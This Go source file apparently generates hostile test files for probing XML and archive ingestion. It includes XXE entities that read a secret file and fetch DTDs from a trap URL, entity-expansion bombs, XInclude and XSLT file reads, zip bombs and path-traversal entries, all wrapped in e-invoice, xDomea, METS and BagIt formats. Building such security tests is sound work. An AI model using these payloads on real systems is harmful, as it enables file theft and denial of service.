package hostile

import "strings"

// xxe puts a document type before a document whose entity x is the secret.
func xxe(document string, t Trap) string {
	return `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://` + t.Secret + `"><!ENTITY % p SYSTEM "` + t.URL + `/parameter.dtd">%p;]>` + document
}

const (
	ublRoot = `<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">` +
		`<cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</cbc:CustomizationID><cbc:ID>`
	xdomeaRoot = `<xdomea:Aussonderung.Aussonderung.0503 xmlns:xdomea="urn:xoev-de:xdomea:schema:3.1.0"><xdomea:Kopf><xdomea:ProzessID>`
	metsRoot   = `<mets xmlns="http://www.loc.gov/METS/" xmlns:xlink="http://www.w3.org/1999/xlink" OBJID="x" PROFILE="https://earksip.dilcis.eu/profile/E-ARK-SIP.xml"><metsHdr><agent><name>`
)

func xmls(t Trap) []File {
	return []File{
		{Name: "entities.xml", Content: text(lol + "<r>&a9;</r>")},
		{Name: "entity-quadratic.xml", Content: func() []byte {
			return []byte(`<!DOCTYPE r [<!ENTITY a "` + strings.Repeat("a", 100_000) + `">]><r>` + strings.Repeat("&a;", 100_000) + `</r>`)
		}},
		{Name: "entity-file.xml", Content: text(xxe("<r>"+Marker+" &x;</r>", t))},
		{Name: "entity-http.xml", Content: text(`<!DOCTYPE r [<!ENTITY x SYSTEM "` + t.URL + `/entity">]><r>` + Marker + ` &x;</r>`)},
		{Name: "dtd-http.xml", Content: text(`<!DOCTYPE r SYSTEM "` + t.URL + `/r.dtd"><r>` + Marker + `</r>`), Shows: true},
		{Name: "dtd-parameter.xml", Content: text(`<!DOCTYPE r [<!ENTITY % f SYSTEM "file://` + t.Secret + `"><!ENTITY % d SYSTEM "` + t.URL + `/d.dtd">%d;%f;]><r>` + Marker + `</r>`)},
		{Name: "xinclude.xml", Content: text(`<r xmlns:xi="http://www.w3.org/2001/XInclude">` + Marker + `<xi:include href="file://` + t.Secret + `" parse="text"/><xi:include href="` + t.URL + `/xi"/></r>`), Shows: true},
		{Name: "stylesheet.xml", Content: text(`<?xml-stylesheet type="text/xsl" href="` + t.URL + `/s.xsl"?><?xml-stylesheet type="text/css" href="file://` + t.Secret + `"?><r xsi:noNamespaceSchemaLocation="` + t.URL + `/r.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">` + Marker + `</r>`), Shows: true},
		{Name: "as-xslt.xsl", Content: text(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">` + Marker + `<xsl:copy-of select="document('file://` + t.Secret + `')"/></xsl:template></xsl:stylesheet>`)},
		{Name: "utf-7.xml", Content: text(`<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r +AFsAPAAh-ENTITY x SYSTEM +ACI-file://` + t.Secret + `+ACI +AD4AXQA+-+ADw-r+AD4AJg-x+ADsAPA-/r+AD4-`)},
		{Name: "xrechnung.xml", Content: text(xxe(ublRoot+Marker+" &x;</cbc:ID></Invoice>", t))},
		{Name: "xrechnung-entities.xml", Content: text(lol + ublRoot + "&a9;</cbc:ID></Invoice>")},
		{Name: "xrechnung-attachment.xml", Content: text(ublRoot + Marker + `</cbc:ID><cac:AdditionalDocumentReference xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"><cbc:ID>a</cbc:ID>` +
			`<cac:Attachment><cbc:EmbeddedDocumentBinaryObject mimeCode="text/plain" filename="../../../etc/passwd">YQ==</cbc:EmbeddedDocumentBinaryObject><cac:ExternalReference><cbc:URI>file://` + t.Secret + `</cbc:URI></cac:ExternalReference></cac:Attachment></cac:AdditionalDocumentReference></Invoice>`)},
		{Name: "xdomea.xml", Content: text(xxe(xdomeaRoot+Marker+" &x;</xdomea:ProzessID></xdomea:Kopf></xdomea:Aussonderung.Aussonderung.0503>", t))},
		{Name: "mets.xml", Content: text(xxe(metsRoot+Marker+" &x;</name></agent></metsHdr></mets>", t))},
		{Name: "svg.svg", Content: text(xxe(svgBody("<text>&x;</text>", t), t))},
		{Name: "utf-16-entity.xml", Content: func() []byte { return wide(xxe("<r>"+Marker+" &x;</r>", t)) }},
	}
}

// wide writes UTF-16.
func wide(s string) []byte {
	b := []byte{0xFF, 0xFE}
	for _, c := range []byte(s) {
		b = append(b, c, 0)
	}
	return b
}

// Packages returns ZIP files that announce themselves as submission packages of
// the known kinds, whose XML would read the secret or swell.
func Packages(t Trap) []File {
	const message = "c0ffee00-0000-4000-8000-000000000001_Aussonderung.Aussonderung.0503"
	xdomea := func(content string) func() []byte {
		return func() []byte { return pack(part{message + ".xml", []byte(content)}) }
	}
	mets := func(content string) func() []byte {
		return func() []byte { return pack(part{"sip/METS.xml", []byte(content)}) }
	}
	bag := func(more ...part) func() []byte {
		return func() []byte {
			return pack(append([]part{{"b/bagit.txt", []byte("BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n")}}, more...)...)
		}
	}
	all := []File{
		{Name: message + "-xxe.zip", Content: xdomea(xxe(xdomeaRoot+"&x;</xdomea:ProzessID></xdomea:Kopf></xdomea:Aussonderung.Aussonderung.0503>", t))},
		{Name: message + "-entities.zip", Content: xdomea(lol + xdomeaRoot + "&a9;</xdomea:ProzessID></xdomea:Kopf></xdomea:Aussonderung.Aussonderung.0503>")},
		{Name: message + "-elements.zip", Content: xdomea(xdomeaRoot + "</xdomea:ProzessID></xdomea:Kopf>" + strings.Repeat("<xdomea:Schriftgutobjekt/>", 900_000) + "</xdomea:Aussonderung.Aussonderung.0503>")},
		{Name: message + "-deep.zip", Content: xdomea(xdomeaRoot + "</xdomea:ProzessID></xdomea:Kopf>" + strings.Repeat("<xdomea:Akte>", 1_000_000))},
		{Name: message + "-text.zip", Content: xdomea(xdomeaRoot + strings.Repeat("Lindenstrasse ", 120<<20/14) + "</xdomea:ProzessID></xdomea:Kopf></xdomea:Aussonderung.Aussonderung.0503>")},
		{Name: "mets-xxe.zip", Content: mets(xxe(metsRoot+"&x;</name></agent></metsHdr></mets>", t))},
		{Name: "mets-elements.zip", Content: mets(metsRoot + "</name></agent></metsHdr><fileSec>" + strings.Repeat("<fileGrp/>", 900_000) + "</fileSec></mets>")},
		{Name: "mets-href.zip", Content: mets(metsRoot + `</name></agent></metsHdr><fileSec><fileGrp><file ID="f"><FLocat LOCTYPE="URL" xlink:href="file://` + t.Secret + `"/></file><file ID="g"><FLocat LOCTYPE="URL" xlink:href="` + t.URL + `/mets"/></file></fileGrp></fileSec></mets>`)},
		{Name: "bag-fetch.zip", Content: bag(part{"b/fetch.txt", []byte(t.URL + "/bag 10 data/a.txt\nfile://" + t.Secret + " - data/b.txt\n")}, part{"b/manifest-sha256.txt", []byte(strings.Repeat("0", 64) + "  data/a.txt\n")})},
		{Name: "bag-traversal.zip", Content: bag(part{"b/manifest-sha256.txt", []byte(strings.Repeat("0", 64) + "  ../../../.." + t.Secret + "\n")}, part{"b/data/a.txt", []byte("a")})},
		{Name: "bag-tags.zip", Content: bag(part{"b/bag-info.txt", []byte(strings.Repeat("A: b\n", 3_000_000))}, part{"b/manifest-sha256.txt", []byte(strings.Repeat(strings.Repeat("0", 64)+"  data/a.txt\n", 500_000))}, part{"b/data/a.txt", []byte("a")})},
		{Name: "bomb.zip", Content: func() []byte { return raw(zeros("a", 1<<30)) }},
		{Name: "overlap.zip", Content: func() []byte { return overlapping(1000, 8<<20) }},
		{Name: "crowded.zip", Content: func() []byte { return crowded(1_000_000) }},
		{Name: "nested.zip", Content: func() []byte { return russian(50, []byte("x")) }},
		{Name: "noise.zip", Content: func() []byte { return Noise(1, 10_000) }},
		{Name: "traversal.zip", Content: func() []byte { return pack(part{"../../../../tmp/x", []byte("x")}) }},
	}
	for i := range all {
		all[i].Group = "package"
	}
	return all
}
